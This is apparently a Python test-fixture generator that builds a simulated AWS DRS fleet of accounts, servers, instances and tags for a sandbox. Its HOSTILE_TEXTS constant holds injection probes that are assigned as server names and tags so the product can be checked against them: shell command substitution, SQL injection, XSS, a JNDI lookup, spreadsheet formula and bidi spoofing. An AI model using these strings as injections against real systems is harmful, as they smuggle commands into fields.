"""From a description to a fleet. Pure: the same description and regions give the same fleet, in every process."""

import random
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field, replace

from botocore.session import get_session

from sandbox.fleet.description import Description, DescriptionError
from sandbox.fleet.model import (
    SOURCE,
    STAGING,
    TARGET,
    TENANT,
    Fleet,
    FleetAccount,
    FleetInstance,
    FleetMembership,
    FleetServer,
    Origin,
    Place,
)

ORIGINS_PER_SCOPE = 2
ROLES = ("web", "app", "db", "cache", "batch", "file")
INSTANCE_TYPES = ("t3.medium", "m5.large", "m6i.xlarge", "r6i.2xlarge")
SYSTEMS = ("Amazon Linux 2023", "Ubuntu 24.04", "Windows Server 2022", "Red Hat Enterprise Linux 9")
TAGS_PER_INSTANCE = 50
"""AWS: tags of one's own per resource; those of AWS's own (aws:) come on top."""

HOSTILE_TEXTS = (
    "$(touch /tmp/owned)",
    "'; DROP TABLE servers; --",
    '"><script>alert(1)</script>',
    "\x1b[2Jcleared",
    "prod\u202egnp.exe",
    "line\nbreak\r\nforged: yes",
    '=HYPERLINK("http://example.com")',
    "\u2066hidden\u2069",
    "{{7*7}} ${jndi:ldap://example.com}",
    "x" * 255,
)
"""Names and tag values: EC2 allows any character in tags (user guide, "Tag restrictions"), DRS's model in names."""


def in_a_tag(text: str) -> str:
    """Return `text` without the characters that EC2, which answers in XML, cannot say (XML 1.0, 2.2)."""
    return "".join(character for character in text if character >= " " or character in "\t\n\r")


def drs_regions() -> list[str]:
    """Return the regions in which DRS exists, from botocore's endpoint data."""
    return sorted(get_session().get_available_regions("drs"))


def generate(description: Description, regions: Sequence[str] | None = None) -> Fleet:
    """Return the fleet that `description` describes.

    Args:
        description: what is wanted.
        regions: all regions in which DRS exists; botocore's by default.

    Raises:
        DescriptionError: a region is none of DRS's, or there are too few servers for what is wanted of them.
    """
    known = list(regions) if regions is not None else drs_regions()
    _check_regions(description, known)
    return _Generator(description, known).fleet()


def arrivals(
    fleet: Fleet, place: Place, count: int, seed: int
) -> tuple[tuple[FleetServer, ...], tuple[FleetInstance, ...]]:
    """Return `count` ordinary servers that appear in `place` later, with their instances in source accounts."""
    rng = random.Random(f"arrivals {seed}")
    origins = _source_origins(rng, _homes(fleet.accounts, place[0]), fleet.regions, place[1])
    machines = _Machines(rng, first_number=len(fleet.servers) + 1)
    made = [machines.with_instance(place, rng.choice(origins), aws_tags=False) for _ in range(count)]
    return tuple(server for server, _ in made), tuple(instance for _, instance in made)


def _check_regions(description: Description, known: Sequence[str]) -> None:
    for name in ("used", "unused", "not_opted_in"):
        if strangers := sorted(set(getattr(description.regions, name)) - set(known)):
            raise DescriptionError(f"regions.{name}: no DRS regions: {', '.join(strangers)}")


def _homes(accounts: Sequence[FleetAccount], account_id: str) -> list[str]:
    """Return the accounts in which machines of `account_id` run: its tenant's sources; without any, its targets."""
    tenant = next(account.tenant for account in accounts if account.account_id == account_id)
    of_tenant = [account for account in accounts if account.tenant == tenant]
    sources = [account.account_id for account in of_tenant if account.kind == SOURCE]
    return sources or [account.account_id for account in of_tenant if account.kind == TARGET]


def _source_origins(
    rng: random.Random, sources: Sequence[str], regions: Sequence[str], replication_region: str
) -> list[Place]:
    """Return the places in which the machines of one scope run: never in its own DRS region."""
    elsewhere = [region for region in regions if region != replication_region]
    return [(rng.choice(sources), rng.choice(elsewhere)) for _ in range(ORIGINS_PER_SCOPE)]


@dataclass
class _Machines:
    """Makes machines with names and identifiers of their own."""

    rng: random.Random
    first_number: int = 1
    made: int = field(default=0, init=False)

    def with_instance(self, scope: Place, place: Place, *, aws_tags: bool) -> tuple[FleetServer, FleetInstance]:
        """Return a server of `scope` and the instance in `place` behind it."""
        number, role = self._next()
        origin = Origin(*place, f"{place[1]}{self.rng.choice('abc')}")
        instance_id = self.new_id("i")
        instance = FleetInstance(
            account_id=origin.account_id,
            region=origin.region,
            zone=origin.zone,
            instance_id=instance_id,
            instance_type=self.rng.choice(INSTANCE_TYPES),
            tags=self._tags(f"{role}-{number:04d}", role, aws_tags=aws_tags),
        )
        server = FleetServer(
            account_id=scope[0],
            region=scope[1],
            server_id=self.new_id("s"),
            hostname=f"{role}-{number:04d}",
            origin=origin,
            instance_id=instance_id,
            cpu_cores=self.rng.choice((2, 4, 8)),
            ram_gib=self.rng.choice((4, 8, 16, 64)),
            os_name=self.rng.choice(SYSTEMS),
        )
        return server, instance

    def new_id(self, prefix: str) -> str:
        """Return an identifier as AWS makes them: the prefix and 17 hexadecimal digits."""
        return f"{prefix}-{self.rng.getrandbits(68):017x}"

    def _next(self) -> tuple[int, str]:
        number = self.first_number + self.made
        self.made += 1
        return number, ROLES[number % len(ROLES)]

    def _tags(self, name: str, role: str, *, aws_tags: bool) -> dict[str, str]:
        tags = {
            "Name": name,
            "env": self.rng.choice(("prod", "test", "dev")),
            "team": self.rng.choice(("payments", "search", "logistics", "platform")),
            "cost-center": f"{self.rng.randrange(1000, 9999)}",
            "role": role,
            "patch-group": self.rng.choice(("monday", "sunday")),
        }
        if aws_tags:
            tags |= {"aws:autoscaling:groupName": f"{role}-group", "aws:cloudformation:stack-name": f"{role}-stack"}
        return tags


class _Generator:
    """The steps of making one fleet. The order of the draws from `rng` is part of the result."""

    def __init__(self, description: Description, regions: Sequence[str]) -> None:
        self._said = description
        self._regions = regions
        # A stream of its own: the simulated DRS draws identifiers too, perhaps from the same number
        self._rng = random.Random(f"fleet {description.seed}")
        self._machines = _Machines(self._rng)
        self._servers: dict[str, FleetServer] = {}
        self._instances: dict[str, FleetInstance] = {}
        self._special: set[str] = set()

    def fleet(self) -> Fleet:
        accounts, memberships = self._accounts()
        self._fill(accounts, memberships)
        self._make_machines_special(memberships)
        self._claim_machines_of_others(accounts)
        self._extend(memberships)
        self._make_tags_special()
        return Fleet(
            name=self._said.name,
            regions=tuple(self._regions),
            unused_regions=tuple(self._said.regions.unused),
            accounts=accounts,
            memberships=memberships,
            servers=tuple(self._servers.values()),
            instances=tuple(self._instances.values()),
        )

    # --- accounts ---

    def _accounts(self) -> tuple[tuple[FleetAccount, ...], tuple[FleetMembership, ...]]:
        wanted = self._said.accounts
        tenants = self._tenants()
        sources = [self._account(SOURCE, number, tenants(number)) for number in range(wanted.sources)]
        untrusting = wanted.staging - wanted.staging_without_trust
        accounts, memberships, staged = [], [], 0
        for number in range(wanted.targets):
            chosen = self._chosen_regions()
            target = self._in_regions(self._account(TARGET, number, tenants(number)), chosen, number)
            accounts.append(target)
            for _ in range(wanted.staging_per_target):
                trusted = staged < untrusting
                staging = self._in_regions(self._account(STAGING, staged, target.tenant), chosen, number + staged + 1)
                accounts.append(replace(staging, trusts=(target.account_id,) if trusted else ()))
                memberships.append(FleetMembership(target.account_id, staging.account_id, trusted))
                staged += 1
        return self._shared((*accounts, *sources), tuple(memberships))

    def _tenants(self) -> Callable[[int], str]:
        """Return what tells the tenant of the account of a number: one company is the default, others have names."""
        count = self._said.accounts.tenants
        return lambda number: TENANT if count == 1 else f"company-{number % count + 1}"

    def _shared(
        self, accounts: tuple[FleetAccount, ...], memberships: tuple[FleetMembership, ...]
    ) -> tuple[tuple[FleetAccount, ...], tuple[FleetMembership, ...]]:
        """Make the first staging accounts those of the next target of their tenant as well."""
        targets = [account for account in accounts if account.kind == TARGET]
        known = {account.account_id: account for account in accounts}
        more = []
        for membership in memberships[: self._said.accounts.shared_staging]:
            mine = [target.account_id for target in targets if target.tenant == known[membership.target].tenant]
            second = mine[(mine.index(membership.target) + 1) % len(mine)]
            staging = known[membership.staging]
            known[staging.account_id] = replace(staging, trusts=(*staging.trusts, second))
            more.append(FleetMembership(second, staging.account_id, membership.trusted))
        return tuple(known.values()), (*memberships, *more)

    def _account(self, kind: str, number: int, tenant: str) -> FleetAccount:
        first = {TARGET: 2, STAGING: 3, SOURCE: 4}[kind]
        return FleetAccount(
            account_id=f"{first}{number + 1:02d}{self._rng.randrange(10**9):09d}",
            name=f"{self._said.name}-{kind}-{number + 1}",
            kind=kind,
            external_id=f"{self._rng.getrandbits(128):032x}",
            tenant=tenant,
        )

    def _chosen_regions(self) -> list[str]:
        """Return the regions that a target and its staging accounts have initialised and may be active in."""
        regions = self._said.regions
        return self._rng.sample(sorted(regions.used), regions.initialised_per_account - len(regions.unused))

    def _in_regions(self, account: FleetAccount, chosen: Sequence[str], turn: int) -> FleetAccount:
        """Return the account with its regions; by `turn` each leaves out others of `chosen`: few coincide."""
        regions = self._said.regions
        start = turn % len(chosen)
        active = [*chosen[start:], *chosen[:start]][: regions.active_per_account]
        return replace(
            account,
            initialised=tuple(sorted([*chosen, *regions.unused])),
            active=tuple(sorted(active)),
            not_opted_in=tuple(sorted(regions.not_opted_in)),
        )

    # --- servers ---

    def _fill(self, accounts: Sequence[FleetAccount], memberships: Sequence[FleetMembership]) -> None:
        wanted = self._said.servers
        target_of = _first_targets(memberships)
        trusted = {membership.staging for membership in memberships if membership.trusted}
        staging_scopes = _scopes(accounts, STAGING)
        originals = int(wanted.total * wanted.staging)
        staged = dict(zip(staging_scopes, _spread(originals, len(staging_scopes)), strict=True))
        extensible = sum(count for (account, _), count in staged.items() if account in trusted)
        own = wanted.total - originals - int(extensible * wanted.extended)
        if own < 0:
            raise DescriptionError("servers.staging: originals and their extensions are more than servers.total")
        target_scopes = _scopes(accounts, TARGET)
        owned = dict(zip(target_scopes, _spread(own, len(target_scopes)), strict=True))
        for scope, count in {**owned, **staged}.items():
            origins = _source_origins(self._rng, _homes(accounts, scope[0]), self._regions, scope[1])
            target = target_of.get(scope[0], scope[0])
            at_home = (target, self._rng.choice([region for region in self._regions if region != scope[1]]))
            for _ in range(count):
                home = self._rng.random() < wanted.origin_is_target
                self._add(scope, at_home if home else self._rng.choice(origins))

    def _add(self, scope: Place, origin: Place) -> None:
        aws_tags = self._rng.random() < self._said.servers.aws_tags
        server, instance = self._machines.with_instance(scope, origin, aws_tags=aws_tags)
        self._servers[server.server_id] = server
        self._instances[instance.instance_id] = instance

    # --- what is out of the ordinary ---

    def _make_machines_special(self, memberships: Sequence[FleetMembership]) -> None:
        specials = self._said.servers.specials
        targets = {membership.target for membership in memberships}
        trusted = {membership.staging for membership in memberships if membership.trusted}
        of_targets, of_trusted = _in_accounts(targets), _in_accounts(trusted)
        for server in self._pick("default_ebs_key", specials.default_ebs_key, of_trusted):
            self._change(server, default_ebs_key=True)
        for server in self._pick("extension_errors", specials.extension_errors, of_trusted):
            self._change(server, extension_error="The KMS key of the staging volumes is not shared with the target")
        for server in self._pick("failback", specials.failback, of_targets):
            self._change(server, direction="FAILBACK")
        for server in self._pick("on_premises", specials.on_premises):
            del self._instances[server.instance_id or ""]
            self._change(server, origin=None, instance_id=None)
        for server in self._pick("instance_gone", specials.instance_gone):
            del self._instances[server.instance_id or ""]
        states = {"disconnected": "DISCONNECTED", "stalled": "STALLED", "initial_sync": "INITIAL_SYNC"}
        for name, state in states.items():
            for server in self._pick(name, getattr(specials, name)):
                self._change(server, state=state)

    def _claim_machines_of_others(self, accounts: Sequence[FleetAccount]) -> None:
        """Let servers name a machine that another tenant runs: what a customer says of other accounts is a claim."""
        tenant_of = {account.account_id: account.tenant for account in accounts}
        for server in self._pick("foreign_origin", self._said.servers.specials.foreign_origin):
            mine = tenant_of[server.account_id]
            others = [one for one in self._instances.values() if tenant_of[one.account_id] != mine]
            victim = self._rng.choice(sorted(others, key=lambda one: one.instance_id))
            del self._instances[server.instance_id or ""]
            claimed = Origin(victim.account_id, victim.region, victim.zone)
            self._change(server, origin=claimed, instance_id=victim.instance_id)

    def _extend(self, memberships: Sequence[FleetMembership]) -> None:
        """Extend a share of the staging servers, as somebody did by hand before the product came."""
        target_of = _first_targets(membership for membership in memberships if membership.trusted)
        originals = [server for server in self._servers.values() if server.account_id in target_of]
        count = int(len(originals) * self._said.servers.extended)
        simple = [server for server in originals if not (server.default_ebs_key or server.extension_error)]
        if count > len(simple):
            raise DescriptionError("servers.extended: more than the staging servers that can be extended")
        for original in self._rng.sample(simple, count):
            extension = replace(
                original,
                account_id=target_of[original.account_id],
                server_id=self._machines.new_id("s"),
                extended_from=original.arn,
            )
            self._servers[extension.server_id] = extension

    def _make_tags_special(self) -> None:
        specials = self._said.servers.specials
        for server in self._pick("full_tags", specials.full_tags):
            self._fill_tags(server)
        for number, server in enumerate(self._pick("hostile", specials.hostile)):
            self._make_hostile(server, HOSTILE_TEXTS[number % len(HOSTILE_TEXTS)])
        for server in self._pick("tags_of_others", specials.tags_of_others):
            self._change(server, tags={"backup-plan": "gold", "ticket": f"OPS-{self._rng.randrange(1000, 9999)}"})
        for server in self._pick("stale_tags", specials.stale_tags):
            self._change(server, tags={"env": "migration", "team": "unknown"})

    def _make_hostile(self, server: FleetServer, text: str) -> None:
        """Give a server, its extension and its instance a name, and the instance a tag, that nobody may act upon."""
        instance = self._instances[server.instance_id or ""]
        said = in_a_tag(text)
        tags = {"Name": said, "env": "prod", said[:100]: said}
        self._instances[instance.instance_id] = replace(instance, tags=tags)
        for same in [one for one in self._servers.values() if one.instance_id == server.instance_id]:
            self._change(same, hostname=text)

    def _fill_tags(self, server: FleetServer) -> None:
        """Give the instance all the tags it may have, and the DRS server two of others: not all find room."""
        instance = self._instances[server.instance_id or ""]
        own = [key for key in instance.tags if not key.startswith("aws:")]
        more = {f"label-{number:02d}": f"value {number}" for number in range(TAGS_PER_INSTANCE - len(own))}
        aws = {f"aws:example:{name}": name for name in ("one", "two", "three")}
        self._instances[instance.instance_id] = replace(instance, tags={**instance.tags, **more, **aws})
        self._change(server, tags={"backup-plan": "gold", "owner-of-others": "ops", "label-43": "stale"})

    def _pick(
        self, name: str, count: int, fits: Callable[[FleetServer], bool] = lambda _: True
    ) -> Iterable[FleetServer]:
        """Return `count` servers with a living instance that are ordinary so far."""
        ordinary = [
            server
            for server in self._servers.values()
            if server.server_id not in self._special and server.instance_id in self._instances and fits(server)
        ]
        if count > len(ordinary):
            raise DescriptionError(f"servers.specials.{name}: {count} are wanted, {len(ordinary)} servers are left")
        picked = self._rng.sample(ordinary, count)
        self._special |= {server.server_id for server in picked}
        return picked

    def _change(self, server: FleetServer, **changes: object) -> None:
        self._servers[server.server_id] = replace(server, **changes)  # type: ignore[arg-type]  # checked by the tests


def _first_targets(memberships: Iterable[FleetMembership]) -> dict[str, str]:
    """Return the first target of each staging account."""
    return {membership.staging: membership.target for membership in reversed(tuple(memberships))}


def _scopes(accounts: Iterable[FleetAccount], kind: str) -> list[Place]:
    return [(account.account_id, region) for account in accounts if account.kind == kind for region in account.active]


def _spread(total: int, parts: int) -> list[int]:
    """Return `total` in `parts` numbers that differ by one at most."""
    whole, rest = divmod(total, parts) if parts else (0, 0)
    return [whole + (number < rest) for number in range(parts)]


def _in_accounts(accounts: set[str]) -> Callable[[FleetServer], bool]:
    return lambda server: server.account_id in accounts
